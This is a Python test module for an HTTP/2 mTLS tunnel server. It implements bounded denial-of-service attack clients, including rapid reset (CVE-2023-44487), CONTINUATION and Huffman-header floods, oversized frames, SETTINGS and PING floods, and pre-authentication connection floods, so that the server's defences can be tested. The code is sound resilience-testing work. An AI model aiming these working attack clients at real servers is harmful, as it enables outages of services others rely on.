"""Attack clients: an authenticated peer that misbehaves at the HTTP/2 layer, and floods that never
authenticate. Frames are written by hand (hyperframe, hpack) on a blocking TLS socket that carries a
certificate of the server's own CA, so every attack reaches the server's HTTP/2 code.

Each attack is bounded in count AND in time (its `seconds`, at most `MAX_SECONDS`); connections
are held open to that deadline unless the server closed them first. The tests run an attack in a
process of its own (`python -m tests.abuse.attacks attack NAME SPEC`): the attacker then competes
with the server for the CPU but not with the test's probe for the GIL. The process prints
`attacking` once the attack is under way, then one JSON line of figures.

`python -m tests.abuse.attacks echo` is the echo target behind `zt hbone serve`: it prints its port.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field
from typing import Any

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from zt.capture.bpfsys import setns
from zt.capture.maps import ZT_MARK
from zt.capture.netns import run_in_netns
from zt.identity.certs import WorkloadCert
from zt.identity.tls import client_context

# RFC 9113 §3.4: "the client connection preface starts with a sequence of 24 octets".
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8  # RFC 9113 §7
FRAME_SIZE_ERROR = 0x6
# RFC 9113 §4.2: "All implementations MUST be capable of receiving and minimally processing frames
# up to 2^14 octets in length". Attack frames stay at this size unless the attack is the size.
DEFAULT_FRAME = 2**14
MAX_SECONDS = 10.0
MiB = 1 << 20

Started = Callable[[], None]


@dataclass(frozen=True)
class Peer:
    """Where and as whom to connect. JSON-able: the attacker process gets it on its command line."""

    server: tuple[str, int]
    cert: str  # PEM files of a workload certificate of the server's CA
    key: str
    ca: str
    echo: tuple[str, int]  # `:authority` of a live echo target behind the server
    blackhole: tuple[str, int]  # `:authority` of a port whose SYNs are never answered
    source: str = ""  # local address to bind ("": the kernel's choice)
    netns: str = ""  # make sockets inside this netns (run_in_netns)
    mark: bool = False  # SO_MARK 0x539: from inside a pod, capture leaves the socket alone

    def to_json(self) -> dict[str, Any]:
        return asdict(self)

    @classmethod
    def from_json(cls, raw: dict[str, Any]) -> Peer:
        fields = dict(raw)
        for name in ("server", "echo", "blackhole"):
            fields[name] = (str(raw[name][0]), int(raw[name][1]))
        return cls(**fields)


def authority(addr: tuple[str, int]) -> str:
    host = f"[{addr[0]}]" if ":" in addr[0] else addr[0]
    return f"{host}:{addr[1]}"


def tcp_connect(peer: Peer, timeout: float) -> socket.socket:
    family = socket.AF_INET6 if ":" in peer.server[0] else socket.AF_INET

    def make() -> socket.socket:
        sock = socket.socket(family, socket.SOCK_STREAM)
        try:
            if peer.mark:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, ZT_MARK)
            if peer.source:
                sock.bind((peer.source, 0))
            sock.settimeout(timeout)
            sock.connect(peer.server)
        except BaseException:
            sock.close()
            raise
        return sock

    return run_in_netns(peer.netns, make, timeout=timeout + 5) if peer.netns else make()


_CONTEXTS: dict[tuple[str, str, str], ssl.SSLContext] = {}


def tls_context(peer: Peer) -> ssl.SSLContext:
    """zt's own client context (TLS 1.3, ALPN h2, the mesh roots) with the attacker's certificate."""
    files = (peer.cert, peer.key, peer.ca)
    if files not in _CONTEXTS:
        raw = [open(p, "rb").read() for p in files]  # noqa: SIM115 (three small PEM files)
        _CONTEXTS[files] = client_context(WorkloadCert.from_pem(*raw, what=peer.cert))
    return _CONTEXTS[files]


def connect_block(target: tuple[str, int], *extra: tuple[str, str]) -> bytes:
    """A CONNECT header block that leaves the HPACK dynamic table empty (never-indexed literals,
    RFC 7541 §6.2.3), so that the same bytes can open any number of streams."""
    headers = [
        hpack.NeverIndexedHeaderTuple(":method", "CONNECT"),
        hpack.NeverIndexedHeaderTuple(":authority", authority(target)),
        *(hpack.NeverIndexedHeaderTuple(k, v) for k, v in extra),
    ]
    return bytes(hpack.Encoder().encode(headers, huffman=True))


def frame(kind: int, flags: int, stream: int, payload: bytes, length: int | None = None) -> bytes:
    """RFC 9113 §4.1 frame layout; `length` may lie about the payload (the oversized-frame attack)."""
    size = len(payload) if length is None else length
    return struct.pack(">I", size)[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def headers(stream: int, block: bytes, *, end_headers: bool = True) -> bytes:
    return HeadersFrame(stream, block, flags=["END_HEADERS"] if end_headers else []).serialize()


def rst(stream: int, code: int = CANCEL) -> bytes:
    return RstStreamFrame(stream, error_code=code).serialize()


def data(stream: int, payload: bytes, *, end: bool = False) -> bytes:
    return DataFrame(stream, payload, flags=["END_STREAM"] if end else []).serialize()


class Conn:
    """One HTTP/2 client connection over mTLS, driven frame by frame (blocking socket)."""

    def __init__(self, peer: Peer, timeout: float = 5.0) -> None:
        raw = tcp_connect(peer, timeout)
        try:
            self.sock = tls_context(peer).wrap_socket(raw, server_hostname=None)
        except BaseException:
            raw.close()
            raise
        self.inbox = bytearray()
        self.decoder = hpack.Decoder()
        self.block: dict[int, bytearray] = {}
        self.statuses: dict[int, int] = {}
        self.received: dict[int, bytearray] = {}
        self.resets: dict[int, int] = {}
        self.goaway: int | None = None
        self.closed = False
        self.settings_seen = 0
        self.server_settings: dict[int, int] = {}
        self.settings_acks = 0
        self.pings = 0
        self.bytes_in = 0

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()

    def send(self, payload: bytes, deadline: float) -> bool:
        """Write all of payload before deadline; False when time ran out or the server closed."""
        remaining = deadline - time.monotonic()
        if remaining <= 0 or self.closed:
            return False
        try:
            self.sock.settimeout(remaining)
            self.sock.sendall(payload)
        except (OSError, ValueError):  # TimeoutError, EPIPE, ECONNRESET, ssl errors
            return False
        return True

    def pump(self, wait: float) -> None:
        """Read what arrives within `wait` seconds (0: what is there now) and parse it."""
        end = time.monotonic() + wait
        while not self.closed:
            try:
                self.sock.settimeout(max(0.0, end - time.monotonic()))
                chunk = self.sock.recv(1 << 20)
            except (TimeoutError, BlockingIOError, ssl.SSLWantReadError):
                break
            except (OSError, ValueError):
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self.bytes_in += len(chunk)
            self.inbox += chunk
            self._parse()
            if wait == 0:
                continue
            if time.monotonic() >= end:
                break

    def wait_for(self, done: Callable[[], bool], timeout: float) -> bool:
        end = time.monotonic() + timeout
        while not done() and not self.closed and time.monotonic() < end:
            self.pump(min(0.05, max(0.0, end - time.monotonic())))
        return done()

    def handshake(self, timeout: float = 5.0, **settings: int) -> None:
        """Preface and SETTINGS; wait for the server's SETTINGS and acknowledge them."""
        ours = SettingsFrame(
            0, settings={getattr(SettingsFrame, k): v for k, v in settings.items()}
        )
        self.sock.settimeout(timeout)
        self.sock.sendall(PREFACE + ours.serialize())
        if not self.wait_for(lambda: self.settings_seen > 0, timeout):
            raise ConnectionError(f"no SETTINGS from {self.sock.getpeername()} in {timeout} s")
        self.sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())

    def _parse(self) -> None:
        while len(self.inbox) >= 9:
            head, length = Frame.parse_frame_header(memoryview(bytes(self.inbox[:9])))
            if len(self.inbox) < 9 + length:
                return
            head.parse_body(memoryview(bytes(self.inbox[9 : 9 + length])))
            del self.inbox[: 9 + length]
            self._on(head)

    def _on(self, f: Frame) -> None:
        if isinstance(f, SettingsFrame):
            if "ACK" in f.flags:
                self.settings_acks += 1
            else:
                self.settings_seen += 1
                self.server_settings.update(f.settings)
        elif isinstance(f, HeadersFrame | ContinuationFrame):
            self.block.setdefault(f.stream_id, bytearray()).extend(f.data)
            if "END_HEADERS" in f.flags:
                fields = self.decoder.decode(bytes(self.block.pop(f.stream_id)), raw=True)
                status = dict(fields).get(b":status")
                if status is not None and f.stream_id not in self.statuses:
                    self.statuses[f.stream_id] = int(status)
        elif isinstance(f, DataFrame):
            self.received.setdefault(f.stream_id, bytearray()).extend(f.data)
        elif isinstance(f, RstStreamFrame):
            self.resets[f.stream_id] = f.error_code
        elif isinstance(f, GoAwayFrame):
            self.goaway = f.error_code
        elif isinstance(f, PingFrame) and "ACK" not in f.flags:
            self.pings += 1


# -- the legitimate client --------------------------------------------------------------------------
@dataclass(frozen=True)
class Probe:
    status: int  # 0: no response
    echoed: bytes
    seconds: float
    detail: str = ""


def probe(peer: Peer, payload: bytes = b"legit tunnel\n", timeout: float = 10.0) -> Probe:
    """A well-behaved tunnel to the echo target: TCP + mTLS + CONNECT + payload echoed back.
    `seconds` runs from the TCP connect to the last echoed byte."""
    start = time.monotonic()
    try:
        conn = Conn(peer, timeout)
    except (OSError, ValueError) as exc:
        return Probe(0, b"", time.monotonic() - start, f"connect: {exc!r}")
    try:
        conn.handshake(timeout)
        conn.sock.sendall(headers(1, connect_block(peer.echo)))
        conn.wait_for(lambda: 1 in conn.statuses, timeout)
        status = conn.statuses.get(1, 0)
        if status == 200:
            conn.sock.sendall(data(1, payload))
            conn.wait_for(lambda: len(conn.received.get(1, b"")) >= len(payload), timeout)
        echoed = bytes(conn.received.get(1, b""))
        seconds = time.monotonic() - start
        with contextlib.suppress(OSError):
            conn.sock.sendall(rst(1))
        detail = f"goaway={conn.goaway} closed={conn.closed} resets={conn.resets}"
        return Probe(status, echoed, seconds, detail)
    except (OSError, ValueError) as exc:
        return Probe(0, b"", time.monotonic() - start, f"{exc!r}")
    finally:
        conn.close()


# -- attacks -----------------------------------------------------------------------------------------
_TALLY_LOCK = threading.Lock()


@dataclass
class Tally:
    """What an attack did and what the server answered; the JSON the attacker prints."""

    attack: str
    conns: int = 0
    frames: int = 0
    bytes_out: int = 0
    refused: int = 0  # connections the server closed or failed during the attack
    goaways: list[int] = field(default_factory=list)
    seconds: float = 0.0
    notes: dict[str, float] = field(default_factory=dict)

    def finished(self, conn: Conn, *, frames: int, bytes_out: int) -> None:
        """One connection of a parallel attack is done (threads share the tally)."""
        with _TALLY_LOCK:
            self.conns += 1
            self.frames += frames
            self.bytes_out += bytes_out
            self.end(conn)

    def not_opened(self, *, count_conn: bool = False) -> None:
        """The server refused a connection before its preface (threads share the tally)."""
        with _TALLY_LOCK:
            self.conns += count_conn
            self.refused += 1

    def end(self, conn: Conn) -> None:
        conn.pump(0)
        if conn.goaway is not None:
            self.goaways.append(conn.goaway)
        if conn.closed or conn.goaway is not None:
            self.refused += 1
        conn.close()


def _deadline(seconds: float) -> float:
    return time.monotonic() + min(seconds, MAX_SECONDS)


def _hold(deadline: float, conn: Conn) -> None:
    """Keep the attack's connection open (reading nothing) until deadline, or until the server
    closed or reset it: after that nothing is left to hold, the rest would be idle time. Polled
    without reading (POLLRDHUP), so a never-reading attacker stays one."""
    _until_all_closed([conn.sock], deadline)


def _parallel(n: int, fn: Callable[[int], None]) -> None:
    threads = [threading.Thread(target=fn, args=(i,), daemon=True) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(MAX_SECONDS + 5)


def open_conn(peer: Peer) -> Conn | None:
    """A connection past its HTTP/2 preface, or None when the server refused it (a reconnecting
    attacker meets caps; that is the server's right, not the harness failing)."""
    try:
        conn = Conn(peer)
    except (OSError, ValueError):
        return None
    try:
        conn.handshake()
    except (OSError, ValueError):
        conn.close()
        return None
    return conn


def _arrive(barrier: threading.Barrier) -> None:
    with contextlib.suppress(threading.BrokenBarrierError):
        barrier.wait()


def rapid_reset(
    peer: Peer, started: Started, *, blackhole: bool = False, count: int = 10_000,
    seconds: float = 5.0, batch: int = 100, max_conns: int = 50, gap: float = 0.001,
) -> Tally:  # fmt: skip
    """CVE-2023-44487: `batch` CONNECTs in one write, their RST_STREAM(CANCEL)s `gap` s later in
    the next (so the server has read the requests and may have started their dials); a new
    connection whenever the server closes one, until `count` streams or `seconds`."""
    tally = Tally("rapid_reset_blackhole" if blackhole else "rapid_reset")
    start, deadline = time.monotonic(), _deadline(seconds)
    block = connect_block(peer.blackhole if blackhole else peer.echo)
    while tally.frames < 2 * count and time.monotonic() < deadline and tally.conns < max_conns:
        conn = open_conn(peer)
        tally.conns += 1
        if conn is None:
            tally.refused += 1
            break
        if tally.conns == 1:
            started()
        sid = 1
        while tally.frames < 2 * count and sid < 2**31 - 2 * batch:
            ids = range(sid, sid + 2 * batch, 2)
            burst = b"".join(headers(s, block) for s in ids)
            if not conn.send(burst, deadline):
                break
            time.sleep(gap)
            resets = b"".join(rst(s) for s in ids)
            if not conn.send(resets, deadline):
                break
            burst += resets
            tally.frames += 2 * batch
            tally.bytes_out += len(burst)
            sid += 2 * batch
            conn.pump(0)  # the server's replies must not stall it: this attacker reads
            if conn.closed or conn.goaway is not None:
                break
        tally.end(conn)
    tally.notes["streams"] = tally.frames // 2
    tally.seconds = time.monotonic() - start
    return tally


def continuation_flood(
    peer: Peer, started: Started, *, conns: int = 8, per_conn: int = 64 * MiB, seconds: float = 4.0
) -> Tally:
    """HEADERS without END_HEADERS, then CONTINUATION frames as large as the server allows
    (CVE-2024-27316 class), on several connections at once; each is held open until the
    deadline (or until the server closes it)."""
    tally = Tally("continuation_flood")
    start, deadline = time.monotonic(), _deadline(seconds)
    # a valid HPACK stream: literal without indexing, new name "a", value "b" (RFC 7541 §6.2.2)
    unit = b"\x00\x01a\x01b"
    opened = threading.Barrier(conns, action=started, timeout=MAX_SECONDS)
    tally.notes["frame_size"] = DEFAULT_FRAME

    def one(_: int) -> None:
        conn = open_conn(peer)
        if conn is None:
            tally.not_opened()
            _arrive(opened)
            return
        size = conn.server_settings.get(SettingsFrame.MAX_FRAME_SIZE, DEFAULT_FRAME)
        filler = unit * (size // len(unit))
        cont = ContinuationFrame(1, filler).serialize()
        sent = frames = 0
        ok = conn.send(headers(1, connect_block(peer.echo), end_headers=False), deadline)
        _arrive(opened)
        while ok and sent < per_conn:
            ok = conn.send(cont, deadline)
            if ok:
                sent += len(filler)
                frames += 1
        _hold(deadline, conn)
        tally.notes["frame_size"] = size
        tally.finished(conn, frames=frames, bytes_out=sent)

    _parallel(conns, one)
    tally.seconds = time.monotonic() - start
    return tally


def oversized_frame(
    peer: Peer, started: Started, *, conns: int = 4, seconds: float = 4.0,
    declared: int = 2**24 - 1, chunk: int = 256 * 1024, pause: float = 0.02,
) -> Tally:  # fmt: skip
    """On an open tunnel, a DATA frame header declaring 16 MiB (the server advertised 1 MiB), then
    the body in paced chunks; RFC 9113 §4.2: "An endpoint MUST send an error code of
    FRAME_SIZE_ERROR if a frame exceeds the size defined in SETTINGS_MAX_FRAME_SIZE"."""
    tally = Tally("oversized_frame")
    start, deadline = time.monotonic(), _deadline(seconds)
    opened = threading.Barrier(conns, action=started, timeout=MAX_SECONDS)
    body = b"\x00" * chunk

    def one(_: int) -> None:
        conn = open_conn(peer)
        if conn is None:
            tally.not_opened()
            _arrive(opened)
            return
        ok = conn.send(headers(1, connect_block(peer.echo)), deadline)
        conn.wait_for(lambda: 1 in conn.statuses, 3.0)
        ok = ok and conn.send(frame(0x0, 0, 1, b"", length=declared), deadline)
        _arrive(opened)
        sent = 0
        while ok and sent < declared:
            ok = conn.send(body[: min(chunk, declared - sent)], deadline)
            sent += min(chunk, declared - sent) if ok else 0
            conn.pump(0)
            ok = ok and not conn.closed and conn.goaway is None
            time.sleep(pause)
        _hold(deadline, conn)
        tally.finished(conn, frames=1, bytes_out=sent)

    _parallel(conns, one)
    tally.seconds = time.monotonic() - start
    return tally


def tiny_data(
    peer: Peer, started: Started, *, batches: int = 3, batch_bytes: int = 240_000,
    seconds: float = 6.0,
) -> Tally:  # fmt: skip
    """1-byte DATA frames interleaved with WINDOW_UPDATE (connection and stream), in batches of
    ~240 KB of frames, on one tunnel to the echo target; `echo_seconds`: until all came back (the
    tunnel is held to the deadline only while some have not)."""
    tally = Tally("tiny_data")
    start, deadline = time.monotonic(), _deadline(seconds)
    conn = Conn(peer)
    tally.conns = 1
    conn.handshake()
    conn.sock.sendall(headers(1, connect_block(peer.echo)))
    conn.wait_for(lambda: 1 in conn.statuses, 3.0)
    started()
    unit = data(1, b"x") + WindowUpdateFrame(0, 1).serialize()
    unit += data(1, b"x") + WindowUpdateFrame(1, 1).serialize()
    pairs = batch_bytes // len(unit)
    sent = 0
    for _ in range(batches):
        if not conn.send(unit * pairs, deadline):
            break
        sent += 2 * pairs
        tally.frames += 4 * pairs
        tally.bytes_out += len(unit) * pairs
        conn.pump(0)
    back = conn.wait_for(
        lambda: len(conn.received.get(1, b"")) >= sent, deadline - time.monotonic()
    )
    tally.notes["sent_bytes"] = sent
    tally.notes["echoed_bytes"] = len(conn.received.get(1, b""))
    tally.notes["echo_seconds"] = time.monotonic() - start
    if not back:  # once every byte came back the attack is over: an idle tunnel adds nothing
        _hold(deadline, conn)
    tally.end(conn)
    tally.seconds = time.monotonic() - start
    return tally


def settings_flood(
    peer: Peer, started: Started, *, tunnels: int = 190, count: int = 400_000,
    seconds: float = 5.0, batch: int = 2000, wave: int = 50,
) -> Tally:  # fmt: skip
    """Open `tunnels` tunnels to the echo target on one connection (in waves of `wave`), then
    SETTINGS frames that toggle INITIAL_WINDOW_SIZE (each one changes every stream's send
    window), reading the ACKs."""
    tally = Tally("settings_flood")
    start = time.monotonic()
    conn = Conn(peer)
    tally.conns = 1
    conn.handshake()
    # RFC 9113 §5.1.2: stay under the server's SETTINGS_MAX_CONCURRENT_STREAMS
    limit = conn.server_settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS, tunnels)
    tunnels = min(tunnels, limit)
    block = connect_block(peer.echo)
    # in waves: a server may cap the CONNECTs it has not answered yet (dials in flight)
    for first in range(0, tunnels, wave):
        ids = range(2 * first + 1, 2 * min(first + wave, tunnels) + 1, 2)
        conn.sock.sendall(b"".join(headers(i, block) for i in ids))
        answered = ids[-1] // 2 + 1  # streams 1, 3, ..., ids[-1]

        def done(n: int = answered) -> bool:
            return len(conn.statuses) + len(conn.resets) >= n

        conn.wait_for(done, 3.0)
    tally.notes["tunnels_200"] = sum(1 for s in conn.statuses.values() if s == 200)
    tally.notes["open_seconds"] = time.monotonic() - start
    deadline = _deadline(seconds)  # the flood's own time starts once the tunnels are open
    started()
    iws = SettingsFrame.INITIAL_WINDOW_SIZE
    pair = SettingsFrame(0, settings={iws: 65_536}).serialize()
    pair += SettingsFrame(0, settings={iws: 65_535}).serialize()
    burst = pair * (batch // 2)
    while tally.frames < count and conn.send(burst, deadline):
        tally.frames += batch
        tally.bytes_out += len(burst)
        conn.pump(0)
        if conn.closed or conn.goaway is not None:
            break
    tally.notes["settings_acks"] = conn.settings_acks
    _hold(deadline, conn)
    tally.end(conn)
    tally.seconds = time.monotonic() - start
    return tally


def ping_flood(
    peer: Peer, started: Started, *, count: int = 1_000_000, seconds: float = 4.0,
    batch: int = 1000,
) -> Tally:  # fmt: skip
    """PINGs without ever reading the socket, mixed with unsolicited PING ACKs that guess the
    server's own PING payloads (counters, both byte orders) to dodge its ping timeout."""
    tally = Tally("ping_flood")
    start, deadline = time.monotonic(), _deadline(seconds)
    conn = Conn(peer)
    tally.conns = 1
    conn.handshake()
    started()
    guesses = [struct.pack(">Q", i) for i in range(32)] + [struct.pack("<Q", i) for i in range(32)]
    burst = b"".join(PingFrame(0, struct.pack(">Q", i)).serialize() for i in range(batch))
    burst += b"".join(PingFrame(0, g, flags=["ACK"]).serialize() for g in guesses)
    while tally.frames < count and conn.send(burst, deadline):  # never reads: conn.pump unused
        tally.frames += batch + len(guesses)
        tally.bytes_out += len(burst)
    _hold(deadline, conn)
    tally.end(conn)
    tally.seconds = time.monotonic() - start
    return tally


def huffman_header(
    peer: Peer, started: Started, *, size: int = MiB, count: int = 40, conns: int = 4,
    seconds: float = 4.0, max_conns: int = 40,
) -> Tally:  # fmt: skip
    """CONNECT requests carrying one header whose Huffman-coded value decodes to `size` bytes
    (RFC 7541 §5.2), split over HEADERS + CONTINUATION frames, from `conns` connections at once;
    a refused connection is replaced, `count` requests and `max_conns` connections in all."""
    tally = Tally("huffman_header")
    start, deadline = time.monotonic(), _deadline(seconds)
    block = connect_block(peer.echo, ("x-huff", "0" * size))  # '0' is a 5-bit code
    pieces = [block[i : i + DEFAULT_FRAME] for i in range(0, len(block), DEFAULT_FRAME)]
    tally.notes["block_bytes"] = len(block)
    lock = threading.Lock()
    budget = {"requests": count, "conns": max_conns}
    opened = threading.Barrier(conns, action=started, timeout=MAX_SECONDS)

    def take(key: str) -> bool:
        with lock:
            budget[key] -= 1
            return budget[key] >= 0

    def one(_: int) -> None:
        first = True
        while time.monotonic() < deadline and take("conns"):
            conn = open_conn(peer)
            if first:
                first = False
                _arrive(opened)
            if conn is None:
                tally.not_opened(count_conn=True)
                continue
            sid, sent = 1, 0
            while take("requests"):
                frames = [HeadersFrame(sid, pieces[0], flags=[]).serialize()]
                frames += [ContinuationFrame(sid, p).serialize() for p in pieces[1:-1]]
                frames.append(ContinuationFrame(sid, pieces[-1], flags=["END_HEADERS"]).serialize())
                if not conn.send(b"".join(frames) + rst(sid), deadline):
                    break
                sent += 1
                sid += 2
                conn.pump(0)
                if conn.closed or conn.goaway is not None:
                    break
            with lock:
                tally.notes["headers"] = tally.notes.get("headers", 0) + sent
            tally.finished(conn, frames=sent * (len(pieces) + 1), bytes_out=sent * len(block))
            if budget["requests"] <= 0:
                return

    _parallel(conns, one)
    tally.seconds = time.monotonic() - start
    return tally


def client_hello(peer: Peer) -> bytes:
    """The first flight of a TLS 1.3 handshake with the attacker's context (a real ClientHello)."""
    obj = tls_context(peer).wrap_bio(ssl.MemoryBIO(), out := ssl.MemoryBIO(), server_hostname=None)
    with contextlib.suppress(ssl.SSLWantReadError):
        obj.do_handshake()
    return out.read()


def pre_auth(
    peer: Peer, started: Started, *, idle: int = 300, half: int = 300, no_preface: int = 0,
    seconds: float = 4.0,
) -> Tally:  # fmt: skip
    """Connections that never authenticate, all held until the deadline (or until the server has
    closed every one, which may come sooner): `no_preface` finish the TLS handshake and never send
    the HTTP/2 preface, `idle` never send a byte, `half` send a ClientHello and never finish the
    handshake. Notes: per group, how many were opened and how many the server had closed by the
    deadline (its pre-authentication deadlines and caps)."""
    tally = Tally("pre_auth")
    start, deadline = time.monotonic(), _deadline(seconds)
    hello = client_hello(peer)
    socks: list[tuple[str, socket.socket]] = []
    plan = ["no_preface"] * no_preface + ["idle"] * idle + ["half"] * half
    try:
        for group in plan:
            if time.monotonic() >= deadline:
                break
            with contextlib.suppress(OSError):
                socks.append((group, _pre_auth_conn(peer, group, hello)))
                _count(tally, f"{group}_opened")
        tally.conns = len(socks)
        tally.notes["opened_seconds"] = time.monotonic() - start
        started()
        _until_all_closed([sock for _, sock in socks], deadline)
        for group, sock in socks:
            if _server_closed(sock):
                tally.refused += 1
                _count(tally, f"{group}_closed_by_server")
    finally:
        for _, sock in socks:
            sock.close()
    tally.seconds = time.monotonic() - start
    return tally


def _until_all_closed(socks: list[socket.socket], deadline: float) -> None:
    """Wait until the server closed or reset every one of socks, or until deadline: once all are
    closed nothing can change, the rest would be idle time. Polled without reading (POLLRDHUP),
    so connections that never read stay so."""
    poller = select.poll()
    for sock in socks:
        poller.register(sock.fileno(), select.POLLRDHUP)
    left = len(socks)
    while left and (remaining := deadline - time.monotonic()) > 0:
        for fd, _ in poller.poll(min(remaining, 0.2) * 1000):  # POLLHUP / POLLERR always come
            poller.unregister(fd)
            left -= 1


def _pre_auth_conn(peer: Peer, group: str, hello: bytes) -> socket.socket:
    sock = tcp_connect(peer, 2.0)
    try:
        if group == "half":
            sock.sendall(hello)
        elif group == "no_preface":
            sock = tls_context(peer).wrap_socket(sock, server_hostname=None)
    except BaseException:
        sock.close()
        raise
    return sock


def _count(tally: Tally, key: str) -> None:
    tally.notes[key] = tally.notes.get(key, 0) + 1


def _server_closed(sock: socket.socket) -> bool:
    """Whether the server closed (or reset) the connection; what it sent before is dropped."""
    sock.setblocking(False)
    try:
        while chunk := sock.recv(1 << 16):
            del chunk
    except (BlockingIOError, ssl.SSLWantReadError):
        return False
    except OSError:
        return True
    return True


ATTACKS: dict[str, Callable[..., Tally]] = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "oversized_frame": oversized_frame,
    "tiny_data": tiny_data,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "huffman_header": huffman_header,
    "pre_auth": pre_auth,
}


# -- the echo target ---------------------------------------------------------------------------------
async def _echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with contextlib.suppress(OSError):
        while chunk := await reader.read(1 << 16):
            writer.write(chunk)
            await writer.drain()
    writer.close()


async def _serve_echo() -> None:
    server = await asyncio.start_server(_echo, "127.0.0.1", 0, backlog=4096)
    print(server.sockets[0].getsockname()[1], flush=True)
    loop = asyncio.get_running_loop()
    done = asyncio.Event()
    # ends when the test closes our stdin (or dies)
    loop.add_reader(sys.stdin.fileno(), done.set)
    await done.wait()
    server.close()


@contextlib.contextmanager
def raised_nofile() -> Iterator[None]:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def main(argv: list[str]) -> int:
    if argv[:1] == ["echo"]:
        asyncio.run(_serve_echo())
        return 0
    if len(argv) != 3 or argv[0] != "attack" or argv[1] not in ATTACKS:
        print(f"usage: attack {{{','.join(ATTACKS)}}} SPEC_JSON | echo", file=sys.stderr)
        return 2
    spec = json.loads(argv[2])
    peer = Peer.from_json(spec["peer"])
    if peer.netns:  # enter once: every thread this process starts inherits the netns
        with open(f"/run/netns/{peer.netns}", "rb") as ns:
            setns(ns.fileno())
        peer = Peer.from_json({**peer.to_json(), "netns": ""})

    def started() -> None:
        print("attacking", flush=True)

    with raised_nofile():
        tally = ATTACKS[argv[1]](peer, started, **spec.get("args", {}))
    print(json.dumps(asdict(tally)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
